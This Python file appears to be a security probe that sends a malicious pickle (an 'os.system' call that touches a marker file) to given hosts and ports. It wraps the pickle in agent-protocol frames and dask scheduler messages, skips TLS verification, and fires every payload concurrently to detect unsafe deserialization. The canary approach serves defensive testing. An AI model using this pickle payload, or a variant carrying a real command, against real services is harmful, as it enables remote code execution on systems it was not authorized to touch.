"""What somebody tries who can connect to a port but has no business there. Run as a program in the place that asks.

Its input is a line of JSON: {"ends": [[host, port], ...], "identity": PEM text or null, "marker": a path, "say": names
of payloads or null for all, "patience": seconds that the first bytes of an answer may take}.
Its output is one, too: [host, port, manner, payload, what came back in hexadecimal] for each attempt that got as far
as a connection.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import struct
import sys
from concurrent.futures import ThreadPoolExecutor

__all__ = ["canary", "frame", "payloads"]

_REST = 1.5


def canary(marker: str) -> bytes:
    """A pickle that makes a file as soon as somebody loads it."""
    return f"cos\nsystem\n(S'touch {marker}'\ntR.".encode()


def frame(header: object, *buffers: bytes) -> bytes:
    """A message as agents take it."""
    text = json.dumps(header).encode()
    lengths = struct.pack(f"!{len(buffers)}Q", *map(len, buffers))
    return struct.pack("!II", len(text), len(buffers)) + lengths + text + b"".join(buffers)


def payloads(marker: str) -> dict[str, bytes]:
    """What is said to a port: to a web server, to an agent, to a dask scheduler, and to whoever unpickles."""
    evil = canary(marker)
    hello = frame({"session": "stranger", "received": 0})
    call = ["call", "1", {"fn": "", "split": 1, "name": "f", "attempt": 0}, 2]
    return {
        "nothing": b"",
        "http": b"GET /status HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
        "zeros": bytes(64),
        "pickle": evil,
        "fetch": frame({"fetch": "0" * 32}),
        "call": hello + frame({"s": 1, "a": 0, "m": [call]}, evil, evil),
        "setup": hello + frame({"s": 1, "a": 0, "m": [["setup", {"env": {}, "shared": True}, 1]]}, evil),
        "dask": struct.pack("<QQ", 1, len(evil)) + evil,
    }


def ask(end: tuple[str, int], data: bytes, context: ssl.SSLContext | None, patience: float) -> bytes | None:
    """What a port answers to `data`; None where there is no connection at all."""
    try:
        raw = socket.create_connection(end, timeout=5)
    except OSError:
        return None
    got = b""
    try:
        with raw if context is None else context.wrap_socket(raw) as sock:
            sock.settimeout(patience)
            sock.sendall(data)
            while len(got) < 1 << 16 and (piece := sock.recv(4096)):
                got += piece
                sock.settimeout(_REST)
    except OSError:
        pass
    finally:
        raw.close()
    return got


def contexts(identity: str | None) -> dict[str, ssl.SSLContext | None]:
    """No TLS, TLS without a certificate, and TLS with one, if there is one; whom it talks to it does not ask."""
    made = [ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT) for _ in range(2)]
    for context in made:
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    found: dict[str, ssl.SSLContext | None] = {"plain": None, "anonymous": made[0]}
    if identity:
        fd = os.memfd_create("identity")
        os.write(fd, identity.encode())
        made[1].load_cert_chain(f"/proc/self/fd/{fd}")
        os.close(fd)
        found["certified"] = made[1]
    return found


def main() -> None:
    """Tries everything on every port, many at a time."""
    order = json.loads(sys.stdin.readline())
    tries = [
        (tuple(end), manner, context, name, data)
        for end in order["ends"]
        for manner, context in contexts(order["identity"]).items()
        for name, data in payloads(order["marker"]).items()
        if name in (order["say"] or [name])
    ]
    with ThreadPoolExecutor(32) as pool:
        answers = list(pool.map(lambda t: ask(t[0], t[4], t[2], order["patience"]), tries))
    found = [
        [*end, manner, name, answer.hex()]
        for (end, manner, _, name, _), answer in zip(tries, answers, strict=True)
        if answer is not None
    ]
    print(json.dumps(found))


if __name__ == "__main__":
    main()
